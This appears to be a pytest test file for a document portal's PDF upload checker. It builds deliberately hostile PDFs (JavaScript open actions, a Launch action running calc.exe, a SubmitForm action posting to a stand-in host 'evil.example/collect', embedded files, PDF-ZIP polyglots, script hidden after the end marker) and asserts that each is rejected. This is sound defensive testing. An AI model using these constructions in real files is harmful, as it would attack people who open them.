"""Uploaded PDFs are checked by their bytes and their structure: active content, attachments, passwords,
damage and files hidden after the end are refused, each with its own message."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from portal.core import storage
from portal.core.storage import Rejected, check_upload, pdf_structure_problem
from tests.hostile import pdf as make_pdf

ACCEPT = ("application/pdf",)
MAX = 10 * 1024 * 1024


def rejection(content: bytes) -> str:
    with pytest.raises(Rejected) as caught:
        check_upload(content, ACCEPT, MAX)
    return str(caught.value)


def js_action() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')"))


def open_action_javascript(pdf):
    pdf.Root.OpenAction = js_action()


def names_javascript(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(js_action())])))


def launch_link(pdf):
    pdf.pages[0].obj.Annots = Array([Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 144, 144]),
        A=Dictionary(S=Name.Launch, F=String("calc.exe")))])


def embedded_file(pdf):
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"hello", mime_type="text/plain")


def page_additional_action(pdf):
    # Even a harmless action is refused when it runs by itself on opening the page.
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.org/")))


def xfa_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def submit_form_button(pdf):
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 144, 144]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))))])


def rich_media(pdf):
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,
                                                Rect=Array([0, 0, 10, 10]))])


ACTIVE_CHANGES = [open_action_javascript, names_javascript, launch_link, embedded_file, page_additional_action,
                  xfa_form, submit_form_button, rich_media]


def test_check_upload_clean_pdf_is_accepted():
    assert check_upload(make_pdf(), ACCEPT, MAX) == "application/pdf"


def test_check_upload_clean_pdf_with_object_streams_is_accepted():
    content = make_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert check_upload(content, ACCEPT, MAX) == "application/pdf"


def test_check_upload_pdf_with_a_link_and_a_goto_open_action_is_accepted():
    def change(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
                                                    A=Dictionary(S=Name.URI, URI=String("https://example.org/")))])
    assert check_upload(make_pdf(change), ACCEPT, MAX) == "application/pdf"


@pytest.mark.parametrize("change", ACTIVE_CHANGES, ids=lambda change: change.__name__)
def test_check_upload_pdf_with_active_content_is_rejected(change):
    assert rejection(make_pdf(change)) == storage.ACTIVE


@pytest.mark.parametrize("change", ACTIVE_CHANGES, ids=lambda change: change.__name__)
def test_pdf_structure_problem_finds_active_content_without_the_byte_scan(change):
    assert pdf_structure_problem(make_pdf(change)) == storage.ACTIVE


def test_check_upload_javascript_in_encrypted_object_stream_is_found_by_structure():
    # No password to open, but the objects are encrypted: the byte scan cannot see the JavaScript.
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(js_action())
    content = make_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate,
                       encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    assert storage.pdf_active_content(content) is None
    assert rejection(content) == storage.ACTIVE


def test_check_upload_password_protected_pdf_is_rejected():
    content = make_pdf(encryption=pikepdf.Encryption(owner="owner", user="secret", R=6))
    assert rejection(content) == storage.PASSWORD


def test_check_upload_truncated_pdf_is_rejected():
    content = make_pdf()
    assert rejection(content[: len(content) // 2]) == storage.DAMAGED


def test_check_upload_pdf_that_cannot_be_parsed_is_rejected():
    assert rejection(b"%PDF-1.7\nthis is not really a PDF\n%%EOF\n") == storage.DAMAGED


HTML_NOT_PDF = ("The file is not a PDF: it looks like an HTML web page. "
                "Save or export it as PDF and upload it again.")


@pytest.mark.parametrize("content, message", [
    (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", HTML_NOT_PDF),
    (b"<html>%PDF-1.7\n</html>", HTML_NOT_PDF),
    (b" %PDF-1.7\n", storage.NOT_PDF),
], ids=["html", "html-then-magic", "magic-not-at-0"])
def test_check_upload_html_named_pdf_is_rejected(content, message):
    assert rejection(content) == message


def test_check_upload_html_after_the_end_of_the_pdf_is_rejected():
    content = make_pdf() + b"<html><script>alert(1)</script></html>\n"
    assert rejection(content) == storage.HIDDEN


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


def test_check_upload_pdf_zip_polyglot_is_rejected():
    assert rejection(make_pdf() + zip_bytes()) == storage.HIDDEN


def test_check_upload_zip_before_a_last_eof_marker_is_rejected():
    content = make_pdf() + zip_bytes() + b"\n%%EOF\n"
    assert zipfile.is_zipfile(io.BytesIO(content))
    assert rejection(content) == storage.HIDDEN


def test_check_upload_pdf_with_too_many_objects_is_rejected():
    def change(pdf):
        pdf.Root.Filler = Array([pdf.make_indirect(Dictionary(N=i)) for i in range(storage.MAX_PDF_OBJECTS)])
    assert rejection(make_pdf(change)) == storage.TOO_COMPLEX


def test_check_upload_empty_and_oversized_files_are_rejected():
    assert rejection(b"") == storage.EMPTY
    with pytest.raises(Rejected, match=r"^The file is \d+ KB, larger than the 1 KB allowed here\."):
        check_upload(make_pdf(), ACCEPT, 100)
